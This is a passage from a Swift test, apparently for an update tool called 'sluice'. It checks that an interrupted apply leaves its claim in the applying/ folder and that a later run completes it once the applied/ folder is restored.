            try await Self.expectInstalled(fixture, "ws", "review", setup.upstream, sha: v2)
            let item = try #require(report.items.first)
            #expect(item.result == "applied")
            #expect(item.unrecorded?.contains("the claim stays in applying/") == true, "\(item)")
            #expect(item.unrecorded?.contains("run 'sluice apply' again") == true, "\(item)")
            #expect(report.hasFailures)
            #expect(FileManager.default.fileExists(atPath: fixture.root + "/updates/applying/" + pending.fileName))

            // Put applied/ back: the next run finishes the claim with one outcome.
            try FileManager.default.removeItem(atPath: fixture.root + "/updates/applied")
            try FileManager.default.moveItem(atPath: fixture.root + "/applied.away", toPath: fixture.root + "/updates/applied")
            try writeFile(fixture.root + "/sluice.yaml", "sources:\n  transports: [file, git, https, ssh]\n")
            let again = try await fixture.apply()
            #expect(!again.hasFailures)
            Self.expectQueue(fixture, applied: [pending.fileName])
        }
    }

}
